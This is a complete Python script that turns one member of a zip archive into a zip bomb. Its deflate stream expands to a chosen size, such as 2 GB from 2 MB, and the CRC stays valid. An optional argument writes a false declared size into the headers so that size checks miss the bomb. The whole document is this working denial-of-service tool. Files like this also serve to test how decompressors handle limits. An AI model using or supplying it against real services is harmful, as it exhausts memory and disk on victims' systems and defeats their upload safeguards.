#!/usr/bin/python3
"""Copies an archive with one member blown up into a zip bomb: its content
becomes the original bytes followed by zeros up to SIZE bytes, deflated to
about a thousandth of that, so that a 2 GB member takes 2 MB of file.

    zip_bomb.py IN.zip OUT.zip MEMBER SIZE [DECLARED]

DECLARED, when given, is the size the member's entries declare instead of
SIZE (a lie that only reading the member finds out); the checksum is
always that of the real content.  The other members are copied stored.
"""
import struct
import sys
import zipfile
import zlib

CHUNK = 1 << 20


def gf2_times(mat, vec):
    s, i = 0, 0
    while vec:
        if vec & 1:
            s ^= mat[i]
        vec >>= 1
        i += 1
    return s


def gf2_square(mat):
    return [gf2_times(mat, mat[n]) for n in range(32)]


def crc32_zeros(crc, n):
    """The CRC-32 of some bytes whose CRC is crc followed by n zero bytes
    (zlib's crc32_combine with a second part of zeros, whose own CRC the
    matrix powers stand for)."""
    odd = [0xEDB88320] + [1 << k for k in range(31)]
    even = gf2_square(odd)
    odd = gf2_square(even)
    crc ^= 0xFFFFFFFF
    while n:
        even = gf2_square(odd)
        if n & 1:
            crc = gf2_times(even, crc)
        n >>= 1
        if not n:
            break
        odd = gf2_square(even)
        if n & 1:
            crc = gf2_times(odd, crc)
        n >>= 1
    return crc ^ 0xFFFFFFFF


def bomb(head, size):
    """The raw deflate stream of head + zeros up to size bytes: each full
    flush ends a block that refers to nothing before it, so the block of
    one chunk of zeros can be repeated."""
    zeros = size - len(head)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)]
    block = c.compress(bytes(CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
    out.append(block * (zeros // CHUNK))
    out.append(c.compress(bytes(zeros % CHUNK)) + c.flush(zlib.Z_FINISH))
    return b"".join(out), crc32_zeros(zlib.crc32(head), zeros)


def main():
    src, dst, target, size = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    declared = int(sys.argv[5]) if len(sys.argv) > 5 else size
    with zipfile.ZipFile(src) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    local, central = bytearray(), bytearray()
    for name, data in members:
        method, usize = 0, len(data)
        crc = zlib.crc32(data)
        if name == target:
            data, crc = bomb(data, size)
            method, usize = 8, declared
        n = name.encode()
        mode = 0o40755 if name.endswith("/") else 0o100644
        fields = (20, 0, method, 0, 0x21, crc, len(data), usize, len(n))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, *fields,
                               0, 0, 0, 0, mode << 16, len(local)) + n
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + n + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                      len(central), len(local), 0)
    with open(dst, "wb") as f:
        f.write(local + central + end)


main()
